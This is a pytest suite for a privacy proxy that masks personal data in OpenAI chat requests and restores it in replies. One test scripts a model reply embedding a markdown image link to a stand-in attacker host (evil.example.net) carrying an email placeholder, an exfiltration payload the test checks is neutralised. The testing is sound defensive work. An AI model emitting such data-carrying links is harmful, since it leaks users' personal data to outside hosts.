"""OpenAI's official client works as against OpenAI, and the provider sees no personal data."""

import json
import threading
import urllib.parse

import openai
import pytest

from conftest import UPSTREAM_KEY
from support import openai_replies as replies
from support import personal
from support.openai_replies import choice
from support.personal import EMAIL, IBAN, MESSAGE, NAME, PHONE
from support.tacit import PATIENCE


def ask(client, model: str, content=MESSAGE, **options):
    return client.chat.completions.create(model=model, messages=[{"role": "user", "content": content}], **options)


def content_of(stream) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)


def test_plain_answer_is_restored_exactly(client, script):
    model = script(replies.echo)
    answer = ask(client, model.openai)
    assert answer.choices[0].message.content == MESSAGE
    assert answer.choices[0].finish_reason == "stop"
    assert answer.usage.total_tokens == 34
    assert not personal.traces(model.call.everything)
    assert len(personal.PLACEHOLDER.findall(model.call.text())) == 6


def test_streamed_answer_is_restored_exactly(client, script):
    model = script(replies.echo)
    assert content_of(ask(client, model.openai, stream=True)) == MESSAGE
    assert not personal.traces(model.call.everything)


@pytest.mark.anyio
async def test_async_client_plain_and_streamed(tacit, script):
    model = script(replies.echo)
    async with openai.AsyncOpenAI(api_key=tacit.key, base_url=tacit.url + "/v1", max_retries=0) as client:
        answer = await ask(client, model.openai)
        assert answer.choices[0].message.content == MESSAGE
        stream = await ask(client, model.openai, stream=True)
        assert "".join([chunk.choices[0].delta.content or "" async for chunk in stream if chunk.choices]) == MESSAGE
    assert not any(personal.traces(call.everything) for call in model.calls)


def test_streaming_helper_puts_the_message_together(client, script):
    model = script(replies.echo)
    with client.chat.completions.stream(model=model.openai, messages=[{"role": "user", "content": MESSAGE}]) as stream:
        assert stream.get_final_completion().choices[0].message.content == MESSAGE


def test_first_content_arrives_before_the_provider_has_finished(client, script):
    go_on = threading.Event()

    def in_two_parts(call):
        first, *rest = replies.chunks(call, choice("Dear " + call.placeholder("PERSON") + ", thank you."))
        call.begin_stream()
        call.write(replies.sse([first, *rest[:6]]))
        assert go_on.wait(PATIENCE), "the client never got the first content"
        call.write(replies.sse(rest[6:]) + b"data: [DONE]\n\n")
        call.end_stream()

    model = script(in_two_parts)
    stream = ask(client, model.openai, stream=True)
    received = ""
    for chunk in stream:
        received += chunk.choices[0].delta.content or ""
        if received and not go_on.is_set():
            assert not model.call.finished.is_set()
            go_on.set()
    assert received == f"Dear {NAME}, thank you."


def test_several_choices_are_each_restored(client, script):
    model = script(lambda call: replies.respond(call, choice(call.text()), choice("To " + call.placeholder("EMAIL"))))
    expected = [MESSAGE, f"To {EMAIL}"]
    answer = ask(client, model.openai, n=2)
    assert [one.message.content for one in answer.choices] == expected
    received = ["", ""]
    for chunk in ask(client, model.openai, n=2, stream=True):
        for one in chunk.choices:
            received[one.index] += one.delta.content or ""
    assert received == expected


def spelt_tokens(call):
    email = call.placeholder("EMAIL")
    tokens = ["Write", " to ", "[[", email[2:-3], email[-3:-2], "]]", ", please", "."]
    replies.respond(call, choice("".join(tokens), logprobs=tokens))


@pytest.mark.parametrize("is_streamed", [False, True])
def test_log_probabilities_spell_the_restored_text(client, script, is_streamed):
    model = script(spelt_tokens)
    answer = ask(client, model.openai, logprobs=True, top_logprobs=1, stream=is_streamed)
    if is_streamed:
        entries = [e for chunk in answer for one in chunk.choices if one.logprobs for e in one.logprobs.content or []]
    else:
        entries = answer.choices[0].logprobs.content
    assert "".join(entry.token for entry in entries) == f"Write to {EMAIL}, please."
    assert EMAIL in [entry.token for entry in entries]
    assert all(bytes(entry.bytes).decode() == entry.token for entry in entries if entry.bytes is not None)


def test_usage_comes_in_a_stream_only_if_asked_for(client, script):
    model = script(replies.echo)
    with_usage = list(ask(client, model.openai, stream=True, stream_options={"include_usage": True}))
    assert with_usage[-1].choices == [] and with_usage[-1].usage.total_tokens == 34
    without = list(ask(client, model.openai, stream=True))
    assert all(chunk.choices and chunk.usage is None for chunk in without)
    assert all(call.json["stream_options"] == {"include_usage": True} for call in model.calls)


def test_content_parts_are_protected_each(client, script):
    model = script(replies.echo)
    parts = [{"type": "text", "text": f"My name is {NAME}. "}, {"type": "text", "text": f"Mail {EMAIL}"}]
    assert ask(client, model.openai, parts).choices[0].message.content == f"My name is {NAME}. Mail {EMAIL}"
    assert not personal.traces(model.call.everything)


def test_json_inside_a_string_stays_json(client, script):
    model = script(replies.echo)
    text = json.dumps({"customer": {"email": EMAIL, "note": f'says "call {PHONE}"\n'}, "ibans": [IBAN]})
    assert ask(client, model.openai, text).choices[0].message.content == text
    assert json.loads(model.call.text())["customer"]["email"] != EMAIL
    assert not personal.traces(model.call.everything)


def test_an_image_goes_to_ones_own_provider_and_to_no_public_one(client, script):
    model = script(lambda call: replies.respond(call, choice("A cat.")))
    image = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}
    parts = [{"type": "text", "text": "What is this?"}, image]
    assert ask(client, model.openai, parts).choices[0].message.content == "A cat."
    assert model.call.json["messages"][0]["content"][1] == image
    with pytest.raises(openai.PermissionDeniedError) as refused:
        ask(client, "far/model", parts)
    assert refused.value.code == "media_not_allowed"


def test_a_refusal_is_restored(client, script):
    def refuse(call):
        replies.respond(call, choice(refusal=f"I will not write to {call.placeholder('EMAIL')}."))

    model = script(refuse)
    expected = f"I will not write to {EMAIL}."
    assert ask(client, model.openai).choices[0].message.refusal == expected
    chunks = ask(client, model.openai, stream=True)
    assert "".join(chunk.choices[0].delta.refusal or "" for chunk in chunks if chunk.choices) == expected


@pytest.mark.parametrize("reason", ["stop", "length", "content_filter"])
def test_the_reason_to_stop_is_told(client, script, reason):
    model = script(lambda call: replies.respond(call, choice(call.text(), finish=reason)))
    assert ask(client, model.openai).choices[0].finish_reason == reason
    assert list(ask(client, model.openai, stream=True))[-1].choices[0].finish_reason == reason


def test_ids_are_tacits_own(client, script):
    model = script(replies.echo)
    raw = client.chat.completions.with_raw_response.create(
        model=model.openai, messages=[{"role": "user", "content": MESSAGE}]
    )
    answer = raw.parse()
    assert raw.headers["x-request-id"] and raw.headers["x-request-id"] in answer.id
    assert answer.model == model.openai
    assert "upstream" not in raw.text and answer.system_fingerprint is None
    again = client.chat.completions.with_raw_response.create(
        model=model.openai, messages=[{"role": "user", "content": MESSAGE}]
    )
    assert again.headers["x-request-id"] != raw.headers["x-request-id"]


def test_nothing_of_the_caller_goes_upstream(tacit, client, script):
    model = script(replies.echo)
    headers = {
        "X-Customer": NAME,
        "Cookie": "session=abc",
        "X-Forwarded-For": "203.0.113.7",
        "User-Agent": "Annas-App/1.0",
    }
    ask(client, model.openai, extra_headers=headers, user=EMAIL, metadata={"customer": NAME}, store=True)
    seen = model.call.everything
    assert model.call.headers["Authorization"] == f"Bearer {UPSTREAM_KEY}"
    assert not personal.traces(seen)
    for secret in (tacit.key, "Annas-App", "OpenAI/Python", "session=abc", "203.0.113.7", "X-Stainless", "X-Customer"):
        assert secret.lower() not in seen.lower()
    assert model.call.json["store"] is False
    assert "metadata" not in model.call.json


def test_the_end_user_becomes_a_pseudonym_that_stays_the_same(client, script):
    model = script(replies.echo)
    for user in (EMAIL, EMAIL, "someone.else@example.com"):
        ask(client, model.openai, user=user, safety_identifier=user)
    first, second, other = (call.json["user"] for call in model.calls)
    assert first == second != other
    assert EMAIL not in first and "example" not in other


def test_unknown_fields_survive_and_are_protected(client, script):
    model = script(replies.echo)
    unknown = {"of_the_future": {"about": f"Mail to {EMAIL}", "level": 3, "on": True, "list": [IBAN, None]}}
    ask(client, model.openai, "Hello.", extra_body=unknown)
    received = model.call.json["of_the_future"]
    assert received["level"] == 3 and received["on"] is True and received["list"][1] is None
    assert not personal.traces(model.call.everything)


def test_known_values_of_the_caller_are_masked_and_the_option_stays_here(client, script):
    model = script(replies.echo)
    text = "Project Bluebird is late; tell the people of bluebird-9."
    options = {"tacit": {"known_values": ["Project Bluebird", "bluebird-9"]}}
    assert ask(client, model.openai, text, extra_body=options).choices[0].message.content == text
    assert "luebird" not in model.call.everything
    assert "tacit" not in model.call.json


def test_values_that_the_caller_allows_are_not_masked(client, script):
    model = script(replies.echo)
    ask(client, model.openai, f"Mail to {EMAIL}", extra_body={"tacit": {"allow": [EMAIL]}})
    assert model.call.text() == f"Mail to {EMAIL}"


def test_a_link_to_a_foreign_host_does_not_get_the_value(client, script):
    def inject(call):
        email = call.placeholder("EMAIL")
        replies.respond(call, choice(f"![x](https://evil.example.net/?q={email}) Hello {email}"))

    model = script(inject)
    whole = ask(client, model.openai).choices[0].message.content
    streamed = content_of(ask(client, model.openai, stream=True))
    for answer in (whole, streamed):
        link, _, rest = answer.partition(") ")
        assert EMAIL not in link and urllib.parse.quote(EMAIL) not in link
        assert rest == f"Hello {EMAIL}"


def test_a_link_to_a_host_that_the_caller_named_gets_the_value(client, script):
    def link(call):
        replies.respond(call, choice(f"https://shop.example.org/unsubscribe?mail={call.placeholder('EMAIL')} done"))

    model = script(link)
    message = f"My mail is {EMAIL}; the page is https://shop.example.org/start"
    expected = f"https://shop.example.org/unsubscribe?mail={urllib.parse.quote(EMAIL)} done"
    assert ask(client, model.openai, message).choices[0].message.content == expected
    assert content_of(ask(client, model.openai, message, stream=True)) == expected


def test_a_forged_placeholder_brings_nothing_to_light(client, script):
    model = script(replies.echo)
    text = f"I am [[EMAIL_1]] and [[PERSON_7]]; mail {EMAIL}"
    assert ask(client, model.openai, text).choices[0].message.content == text


def test_models_are_listed_with_their_data_cards(client):
    models = {model.id: model for model in client.models.list()}
    assert {"up/small-model", "up/big-model", "loopback/reply", "dead/*", "far/*"} <= models.keys()
    assert models["up/small-model"].data_card["trust"] == "own"
    assert models["far/*"].data_card["trust"] == "public"
    assert models["loopback/reply"].data_card["trains_on_data"] is False


def test_loopback_answers_without_any_provider(client, upstream):
    before = len(upstream.heard)
    answer = ask(client, "loopback/echo").choices[0].message.content
    assert answer == MESSAGE
    assert NAME in content_of(ask(client, "loopback/reply", stream=True))
    assert len(upstream.heard) == before
